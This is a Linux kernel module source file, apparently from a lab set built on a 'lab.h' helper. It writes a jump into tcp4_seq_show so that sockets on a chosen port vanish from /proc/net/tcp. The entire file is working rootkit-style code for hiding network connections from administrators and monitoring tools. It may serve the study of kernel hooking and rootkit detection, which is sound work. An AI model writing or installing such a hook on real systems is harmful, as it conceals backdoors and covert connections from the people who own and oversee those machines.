// SPDX-License-Identifier: GPL-2.0-only
/* Writes a jump at the entry of the function that prints a line of /proc/net/tcp. */
#include "lab.h"

#include <linux/seq_file.h>
#include <net/sock.h>

static int port;
module_param(port, int, 0444);
static int (*body)(struct seq_file *seq, void *v);

static int hooked(struct seq_file *seq, void *v)
{
	if (v != SEQ_START_TOKEN && ((struct sock *)v)->sk_num == port)
		return 0;
	return body(seq, v);
}

static unsigned long site;

static int __init seqtext_init(void)
{
	site = lab_ftrace_site("tcp4_seq_show");
	if (!site)
		return -ENOENT;
	body = (void *)(site + 5);
	lab_branch(site, 0xe9, (unsigned long)hooked);
	return 0;
}

static void __exit seqtext_exit(void)
{
	lab_write((void *)site, lab_nop5, sizeof(lab_nop5));
	lab_drain();
}
module_init(seqtext_init);
module_exit(seqtext_exit);
